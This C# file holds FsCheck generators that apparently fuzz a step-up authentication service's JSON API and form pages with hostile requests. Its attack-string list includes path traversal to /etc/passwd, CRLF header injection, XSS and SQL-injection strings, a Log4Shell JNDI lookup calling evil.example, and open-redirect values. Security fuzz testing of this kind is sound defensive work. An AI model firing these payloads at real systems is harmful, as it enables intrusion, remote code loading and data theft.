using System.Globalization;
using System.Text;
using System.Text.Json;
using FsCheck;
using FsCheck.Fluent;

namespace StepUp.Security.Tests.Fuzz;

/// <summary>One generated request.</summary>
/// <param name="Method">GET, POST or DELETE.</param>
/// <param name="Path">Path and query.</param>
/// <param name="ContentType">The Content-Type sent, or <see langword="null"/> for none.</param>
/// <param name="Body">The body, or <see langword="null"/>.</param>
/// <param name="Form">Whether it is a page form (the antiforgery token is added unless <paramref name="WithoutToken"/>).</param>
/// <param name="WithoutToken">Whether the form leaves the antiforgery token out.</param>
public sealed record FuzzRequest(string Method, string Path, string? ContentType, string? Body, bool Form, bool WithoutToken)
{
    /// <inheritdoc />
    public override string ToString() =>
        $"{Method} {Path} [{ContentType}] {(Body is null ? "(no body)" : Body.Length > 200 ? Body[..200] + $"… ({Body.Length} chars)" : Body)}";
}

/// <summary>
/// FsCheck generators for hostile requests to StepUp's JSON API and pages: known field names with values drawn from
/// attack strings, random Unicode, wrong JSON types and look-alikes of valid values, plus raw junk bodies and wrong content
/// types. Sampled with a fixed seed, so a failure is replayed exactly (set STEPUP_FUZZ_SEED to explore other inputs).
/// </summary>
public static class FuzzInputs
{
    private static readonly string[] Attacks =
    [
        "", " ", "\t", "0", "-1", "1e309", "NaN", "null", "true", "[]", "{}", "\u0000", "\r\n", "\u202E\u2066", "\uFEFF", "\u200B",
        "🙂", "𝟙𝟚𝟛𝟜𝟝𝟞𝟟𝟠", "١٢٣٤٥٦٧٨", "１２３４５６７８", "../../../etc/passwd", "%00", "%0d%0aSet-Cookie:x=1", "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>", "' OR '1'='1", "{{7*7}}", "${jndi:ldap://evil.example/a}", "sms", "voice", "SMS", "call", "text", "fax",
        "Sms, Voice", "All", "None", "12345678", "00000000", "1234 5678", "1234-5678", "+31", "+4477009", "0612345678", "+1",
        "//evil.example", "/\\evil.example", "https:evil.example", "/sensitive", "/", "~/x", "javascript:alert(1)", "AAAAAAAAAAAAAAAAAAAAAA",
        "CfDJ8" + new string('A', 120), new string('A', 3000), new string('9', 41), "\ud800", "\udfff\ud800", "Robert'); DROP TABLE users;--",
    ];

    private static readonly string[] JsonFields = ["channel", "phoneNumber", "transaction", "challengeId", "code", "returnUrl", "Channel", "CODE", "__proto__", "$type", "extra"];

    private static readonly string[] FormFields = ["PhoneNumber", "Channel", "Code", "ChallengeId", "ReturnUrl", "Channels", "Transaction", "handler", "__RequestVerificationToken"];

    private static readonly string[] ContentTypes =
    [
        "application/json", "application/json", "application/json", "application/json; charset=utf-8", "application/problem+json",
        "application/vnd.api+json", "text/plain", "application/x-www-form-urlencoded", "application/json; charset=utf-16", "",
    ];

    /// <summary>The requests, <paramref name="count"/> of them, from <paramref name="seed"/>.</summary>
    public static FuzzRequest[] Sample(int count, ulong seed) => [.. Request.Sample(count, new Rnd(seed), 30)];

    private static Gen<string> Text =>
        Gen.Frequency(
            (6, Gen.Elements(Attacks)),
            (2, Gen.Choose(0, 99_999_999).Select(n => n.ToString("D8", CultureInfo.InvariantCulture))),
            (1, Gen.Choose(1_000_000, 9_999_999).Select(n => "+3161" + n.ToString(CultureInfo.InvariantCulture))),
            (2, Gen.ArrayOf(Gen.Choose(0, 0x2FFF).Select(c => (char)c)).Select(chars => new string(chars))),
            (1, Gen.Zip(Gen.Elements(Attacks), Gen.Elements(Attacks), (a, b) => a + b)));

    private static Gen<string> JsonValue =>
        Gen.Frequency(
            (8, Text.Select(t => JsonSerializer.Serialize(t))),
            (1, Gen.Elements("null", "true", "false", "0", "-0", "1e400", "123456789012345678901234567890", "[]", "{}", "[\"sms\"]", "{\"a\":{\"b\":[1,{}]}}")),
            (1, Gen.Choose(int.MinValue, int.MaxValue).Select(n => n.ToString(CultureInfo.InvariantCulture))));

    /// <summary>A value for a known field: often a valid-looking one (so requests get past validation), else anything.</summary>
    private static Gen<string> ValueFor(string field) => field switch
    {
        "channel" => Gen.Frequency((3, Gen.Elements("\"sms\"", "\"voice\"", "\"call\"", "\"text\"")), (1, JsonValue)),
        "phoneNumber" => Gen.Frequency(
            (2, Gen.Choose(1_000_000, 9_999_999).Select(n => "\"+3161" + n.ToString(CultureInfo.InvariantCulture) + "\"")),
            (2, Gen.Constant("null")),
            (1, JsonValue)),
        "code" => Gen.Frequency((2, Gen.Choose(0, 99_999_999).Select(n => "\"" + n.ToString("D8", CultureInfo.InvariantCulture) + "\"")), (1, JsonValue)),
        _ => JsonValue,
    };

    private static Gen<string> JsonObject =>
        from channel in Field("channel", 9)
        from phoneNumber in Field("phoneNumber", 5)
        from transaction in Field("transaction", 1)
        from challengeId in Field("challengeId", 5)
        from code in Field("code", 5)
        from returnUrl in Field("returnUrl", 3)
        from extraCount in Gen.Choose(0, 2)
        from extra in Gen.ListOf(Gen.Zip(Gen.Elements(JsonFields), JsonValue, (k, v) => JsonSerializer.Serialize(k) + ":" + v), extraCount)
        select "{" + string.Join(",", new[] { channel, phoneNumber, transaction, challengeId, code, returnUrl }.Where(f => f.Length > 0).Concat(extra)) + "}";

    /// <summary><c>"field":value</c> in <paramref name="tenths"/> of ten objects, else nothing.</summary>
    private static Gen<string> Field(string field, int tenths) =>
        Gen.Frequency(
            (tenths, ValueFor(field).Select(v => JsonSerializer.Serialize(field) + ":" + v)),
            (10 - tenths, Gen.Constant(string.Empty)));

    private static Gen<string> JsonBody =>
        Gen.Frequency(
            (8, JsonObject),
            (1, JsonObject.Select(j => j.Length > 2 ? j[..(j.Length / 2)] : j)),
            (1, Gen.Elements("", "{", "]", "\"\"", "{\"channel\":\"sms\"}garbage", "\uFEFF{}", "{\"channel\":\"sms\",}", "{'channel':'sms'}", new string('[', 2000))));

    private static Gen<FuzzRequest> JsonRequest =>
        from endpoint in Gen.Frequency(
            (4, Gen.Constant(("POST", "/stepup/api/challenges"))),
            (3, Gen.Constant(("POST", "/stepup/api/challenges/verify"))),
            (1, Gen.Constant(("POST", "/stepup/api/phone/challenges"))),
            (1, Gen.Constant(("DELETE", "/stepup/api/challenges/current"))),
            (1, Gen.Constant(("GET", "/stepup/api/status"))),
            (1, Gen.Constant(("POST", "/stepup/api/status"))),
            (1, Gen.Constant(("PUT", "/stepup/api/challenges"))))
        from contentType in Gen.Elements(ContentTypes)
        from body in JsonBody
        select new FuzzRequest(endpoint.Item1, endpoint.Item2, endpoint.Item1 == "GET" ? null : contentType, endpoint.Item1 == "GET" ? null : body, false, false);

    private static Gen<FuzzRequest> FormRequest =>
        from page in Gen.Elements("/stepup", "/stepup/phone")
        from handler in Gen.Elements("Send", "Verify", "Cancel", "Send", "Verify", "Delete", "", "send", "../Verify")
        from fields in Gen.ListOf(Gen.Zip(Gen.Elements(FormFields), Text))
        from withoutToken in Gen.Frequency((9, Gen.Constant(false)), (1, Gen.Constant(true)))
        select new FuzzRequest(
            "POST",
            page + (handler.Length == 0 ? string.Empty : "?handler=" + Uri.EscapeDataString(handler)),
            "application/x-www-form-urlencoded",
            string.Join("&", fields.Select(f => Uri.EscapeDataString(f.Item1) + "=" + Uri.EscapeDataString(f.Item2))),
            true,
            withoutToken);

    private static Gen<FuzzRequest> PageRequest =>
        from page in Gen.Elements("/stepup", "/stepup/phone", "/stepup/directory")
        from query in Gen.ListOf(Gen.Zip(Gen.Elements("returnUrl", "channels", "transaction", "handler", "outcome"), Text))
        select new FuzzRequest("GET", page + "?" + string.Join("&", query.Select(q => q.Item1 + "=" + Uri.EscapeDataString(q.Item2))), null, null, false, false);

    private static Gen<FuzzRequest> Request =>
        Gen.Frequency((5, JsonRequest), (4, FormRequest), (1, PageRequest));

    /// <summary>The bytes of a body (UTF-8, or UTF-16 when the content type says so).</summary>
    public static byte[] Bytes(FuzzRequest request)
    {
        ArgumentNullException.ThrowIfNull(request);
        var body = request.Body ?? string.Empty;
        return request.ContentType?.Contains("utf-16", StringComparison.Ordinal) == true ? Encoding.Unicode.GetBytes(body) : Encoding.UTF8.GetBytes(body);
    }
}
